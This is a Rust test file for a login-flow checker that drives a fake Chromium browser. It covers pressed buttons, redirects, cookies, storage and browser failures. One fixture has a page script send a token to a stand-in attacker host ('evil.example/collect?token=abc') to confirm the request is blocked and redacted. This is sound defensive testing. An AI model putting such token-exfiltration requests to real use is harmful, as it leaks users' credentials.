//! Pages whose scripts are run for the browser that checks play: what they ask for, what they keep, where they lead, and what is
//! pressed on them.

use std::{sync::Arc, time::Duration};

use authctl::{
    check::user_agent::{UserAgent, chromium::Chromium, navigation::Navigation},
    error::Code,
    host::{BoxFuture, Clock},
    protocol::time::UnixTime,
};
use serde_json::{Value, json};

#[cfg(unix)]
use crate::support::program::Program;
use crate::support::{
    fake_chromium::{FakeChromium, script},
    in_memory_web::{Browsing, Said, Web, url, wait},
};

const APP: &str = "http://localhost:3000";
const PROVIDER: &str = "http://127.0.0.1:9470";

/// A clock by which every wait is over when nothing else is left to do.
struct Unhurried;

impl Clock for Unhurried {
    fn now(&self) -> UnixTime {
        UnixTime(1_800_000_000)
    }

    fn sleep(&self, _: Duration) -> BoxFuture<'_, ()> {
        Box::pin(async {
            for _ in 0..1000 {
                tokio::task::yield_now().await;
            }
        })
    }
}

/// A browser before an app whose pages these are, and what runs their scripts.
fn before(pages: impl Fn(&str) -> Said + Send + Sync + 'static) -> (Browsing, FakeChromium) {
    with(FakeChromium::new(), pages)
}

fn with(
    chromium: FakeChromium,
    pages: impl Fn(&str) -> Said + Send + Sync + 'static,
) -> (Browsing, FakeChromium) {
    let web = Web::default().site(APP, move |request| pages(request.url.path()));
    let mut browsing = web.site(PROVIDER, |_| Said::page("the provider")).browser(PROVIDER);
    let runs = Chromium::with(Box::new(chromium.clone()), Arc::new(Unhurried));
    let agent =
        UserAgent::new(Arc::clone(&browsing.web) as _, Arc::new(Unhurried), &browsing.trace, url(PROVIDER));
    browsing.agent = agent.with_chromium(Some(Arc::new(runs)));
    (browsing, chromium)
}

fn page(steps: &Value) -> Said {
    Said::page(format!("<title>App</title>{}", script(steps)))
}

fn to(path: &str) -> Navigation {
    Navigation::to(url(APP).join(path).unwrap())
}

#[test]
fn a_login_button_that_a_script_makes_is_pressed_and_what_it_asks_for_goes_our_way() {
    let (mut browsing, chromium) = before(|path| match path {
        "/" => page(&json!([
            ["ask", "GET", "/api/me"],
            ["button", "Register", ["lead", "/register"]],
            [
                "button",
                "Sign in with the provider",
                ["ask", "POST", "/api/begin", "a=1"],
                ["lead", "/begin?{answer}"]
            ],
        ]))
        .with("set-cookie", "first=1; HttpOnly; Path=/"),
        "/api/me" => Said(401, Vec::new(), String::new()),
        "/api/begin" => Said(200, vec![("set-cookie", "login=2; HttpOnly; Path=/".into())], "{}".into()),
        "/begin" => Said::to(format!("{PROVIDER}/authorize?state=x#f")),
        other => panic!("nobody asks for {other}"),
    });
    let asked = wait(browsing.agent.before_authorization(url("http://localhost:3000/"))).unwrap();
    assert_eq!(asked.url.as_str(), "http://127.0.0.1:9470/authorize?state=x#f");
    assert_eq!(
        browsing.asked(),
        [
            "GET http://localhost:3000/",
            "GET http://localhost:3000/api/me",
            "POST http://localhost:3000/api/begin",
            "GET http://localhost:3000/begin?{answer}",
        ]
    );
    assert_eq!(browsing.sent("cookie").as_deref(), Some("first=1; login=2"));
    assert_eq!(browsing.sent("sec-fetch-site").as_deref(), Some("same-origin"));
    {
        let asked = browsing.web.asked.lock().unwrap();
        let begun = &asked[2];
        assert_eq!(begun.body, b"a=1");
        assert_eq!(begun.headers["cookie"], "first=1");
        assert!(["user-agent", "sec-ch-ua"].iter().all(|name| !begun.headers.contains_key(*name)));
    }
    assert_eq!(
        browsing.told(),
        [
            "Browser to App: GET /",
            "App to Browser: 200, sets cookie first",
            "Browser to App: GET /api/me, for a script",
            "App to Browser: 401",
            "Browser to Browser: presses «Sign in with the provider»",
            "Browser to App: POST /api/begin, for a script",
            "App to Browser: 200, sets cookie login",
            "Browser to App: GET /begin?…, with cookies first, login",
            "App to Browser: 302 to /authorize?state=…#…",
        ]
    );
    // before anything is opened every request is waited for, and afterwards nothing is left open
    assert_eq!(chromium.told("Fetch.")[0], "Fetch.enable");
    assert_eq!(chromium.open_tabs(), 0);
}

#[test]
fn what_leads_on_is_the_next_step_and_not_made_by_one() {
    for (step, target, method, body) in [
        (json!(["lead", "/next?code=1#f"]), "http://localhost:3000/next?code=1#f", "GET", ""),
        (json!(["lead", "https://evil.example/"]), "https://evil.example/", "GET", ""),
        (json!(["post", "/next", "a=%C3%A9"]), "http://localhost:3000/next", "POST", "a=%C3%A9"),
        (json!(["window", "http://localhost:3000/next"]), "http://localhost:3000/next", "GET", ""),
    ] {
        let is_near = target.starts_with(APP);
        let (mut browsing, _) = before(move |path| match path {
            "/" => page(&json!([step])),
            _ => Said::page("next"),
        });
        let first = wait(browsing.agent.step(to("/"))).unwrap();
        assert_eq!(first.leads_to(), Some(url(target)));
        assert_eq!((first.location(), browsing.asked().len()), (None, 1));
        let last = wait(browsing.agent.visit(to("/"))).unwrap();
        assert_eq!(last.not_followed.is_none(), is_near);
        if is_near {
            let asked = browsing.web.asked.lock().unwrap();
            let next = asked.last().unwrap();
            assert_eq!((next.method.as_str(), &*next.body), (method, body.as_bytes()));
            assert_eq!(next.headers["referer"], "http://localhost:3000/");
        }
    }
}

#[test]
fn what_scripts_keep_goes_with_the_browser_and_into_its_copies() {
    let (mut browsing, _) = before(|path| match path {
        "/keep" => page(&json!([["keep", "token", "abc"], ["cookie", "theme=dark"], ["uncookie", "old"]])),
        "/clear" => page(&json!([])).with("clear-site-data", "\"storage\""),
        _ => page(&json!([["show", "token {token}, cookies {cookie}"]])),
    });
    browsing.agent.jar_mut().take(b"old=1; Path=/", &url(APP), Unhurried.now()).unwrap();
    browsing.agent.jar_mut().take(b"sid=1; Path=/; HttpOnly", &url(APP), Unhurried.now()).unwrap();
    let shown = |agent: &mut UserAgent, path: &str| {
        wait(agent.step(to(path))).unwrap().seen().replace("<title>App</title>", "")
    };
    let mut fresh = browsing.agent.clone();
    shown(&mut browsing.agent, "/keep");
    let mut copy = browsing.agent.clone();
    assert_eq!(shown(&mut browsing.agent, "/"), "token abc, cookies theme=dark");
    shown(&mut browsing.agent, "/clear");
    assert_eq!(shown(&mut browsing.agent, "/"), "token {token}, cookies theme=dark");
    assert_eq!(shown(&mut copy, "/"), "token abc, cookies theme=dark");
    assert_eq!(shown(&mut fresh, "/"), "token {token}, cookies old=1");
    assert!(copy.jar().named("sid").is_some() && copy.jar().named("old").is_none());
    assert!(browsing.told().contains(&"Browser to Browser: a script changes old, theme".to_owned()));
}

#[test]
fn what_is_not_near_not_shown_or_without_end_is_not_asked_for() {
    // T3
    let (mut browsing, _) = before(|path| match path {
        "/" => page(&json!([
            ["ask", "GET", "https://evil.example/collect?token=abc"],
            ["show", "{answer}"],
            ["ask", "GET", "https://evil.example/again"],
            ["load", "Font", "/font"],
            ["load", "EventSource", "/events"],
            ["load", "Script", "/app.js"],
            ["dialog"],
            ["ask", "GET", &format!("{PROVIDER}/userinfo")],
            ["show", ", {answer}"],
        ])),
        "/app.js" => Said(200, Vec::new(), "code".into()),
        other => panic!("nobody asks for {other}"),
    });
    let page = wait(browsing.agent.step(to("/"))).unwrap();
    assert_eq!(page.seen(), "<title>App</title>nothing, the provider");
    assert_eq!(
        browsing.asked(),
        [
            "GET http://localhost:3000/",
            "GET http://localhost:3000/app.js",
            "GET http://127.0.0.1:9470/userinfo"
        ]
    );
    let told = browsing.told();
    let away: Vec<&String> = told.iter().filter(|line| line.contains("evil.example")).collect();
    assert_eq!(
        away,
        [
            "Browser to App: GET https://evil.example/collect?token=…, for a script",
            "Browser to Browser: https://evil.example/collect?token=… is not gone to",
        ]
    );
}

#[test]
fn pages_without_scripts_files_frames_and_the_provider_are_left_alone() {
    let (mut browsing, chromium) = before(|path| match path {
        "/plain" => Said::page("<p>one = 1"),
        "/json" => Said(200, vec![("content-type", "application/json".into())], "\"<script>\"".into()),
        _ => Said::to("/plain"),
    });
    for path in ["/plain", "/json", "/redirect"] {
        let page = wait(browsing.agent.step(to(path))).unwrap();
        assert_eq!(page.seen(), page.body);
    }
    wait(browsing.agent.step(Navigation::to(url(PROVIDER)))).unwrap();
    wait(browsing.agent.step(to("/plain").framed())).unwrap();
    assert!(chromium.told("").is_empty());
    // an answer that is no page shows nothing, and is no failure
    let (mut browsing, chromium) =
        before(|_| page(&json!([["lead", "/x"]])).with("content-disposition", "attachment; filename=a"));
    assert_eq!(wait(browsing.agent.step(to("/"))).unwrap().leads_to().map(String::from), None);
    assert_eq!(chromium.told("Page.navigate").len(), 1);
}

#[test]
fn nothing_that_leads_to_the_provider_is_told_and_no_button_is_pressed_twice() {
    let (mut browsing, _) = before(|_| {
        page(&json!([
            ["button", "Continue", ["show", "more"]],
            ["button", "Log in", ["show", "nothing"]],
            ["button", "Help"]
        ]))
    });
    let error = wait(browsing.agent.before_authorization(url("http://localhost:3000/"))).unwrap_err();
    assert_eq!(
        (error.code(), error.text()),
        (Code::AppPageUnusable, "nothing on the app's page leads to the provider")
    );
    let told = browsing.told();
    let pressed: Vec<&str> =
        told.iter().filter_map(|line| line.split_once("presses ")).map(|it| it.1).collect();
    assert_eq!(pressed, ["«Log in»", "«Continue»"]);
}

#[test]
fn a_browser_that_ends_or_hangs_is_told_and_a_page_that_hangs_is_taken_as_it_is() {
    // T2
    for ends_at in ["Target.createBrowserContext", "Fetch.enable", "Page.navigate", "Storage.getCookies"] {
        let chromium = FakeChromium::ending_at(Some(ends_at));
        let (mut browsing, _) = with(chromium, |_| page(&json!([["show", "x"]])));
        let error = wait(browsing.agent.step(to("/"))).unwrap_err();
        assert_eq!(error.code(), Code::ChromiumFailed, "{ends_at}");
        let got = error.found().map_or("", authctl::untrusted::Untrusted::raw);
        assert_eq!(got, "it has ended: out of memory", "{ends_at}");
    }
    let (mut browsing, _) = before(|_| page(&json!([["show", "begun"], ["hang"], ["show", "never"]])));
    let page = wait(browsing.agent.step(to("/"))).unwrap();
    assert_eq!(page.seen(), "<title>App</title>begun");
}

#[cfg(unix)]
#[test]
fn a_browser_that_is_not_there_or_does_not_work_is_told_before_anything_begins() {
    let program = Program::new();
    let broken = program.script("broken", "echo 'no usable sandbox' >&2; exit 1").display().to_string();
    let nobody = "http://127.0.0.1:1/";
    let check = ["check", "app", "--login", nobody, "--probe", nobody, "--port", "0"];
    let with = |program: &Program, more: &[&str]| program.run(&[&check[..], more].concat());
    with(&program, &["--browser=/no/such/chromium"]).refused(Code::CommandNotFound);
    let ran = with(&program, &[&format!("--browser={broken}")]).refused(Code::ChromiumFailed);
    assert!(ran.stderr.contains("it has ended: no usable sandbox"), "{}", ran.stderr);
    // without a name it is looked for where programs are
    let nowhere = program.path("home").display().to_string();
    let ran = with(&Program::new().with("PATH", nowhere), &["--browser"]).refused(Code::CommandNotFound);
    assert!(ran.stderr.contains("there is no Chromium on PATH"), "{}", ran.stderr);
    with(&Program::new().with("AUTHCTL_CHECK_BROWSER", broken), &[]).refused(Code::ChromiumFailed);
}
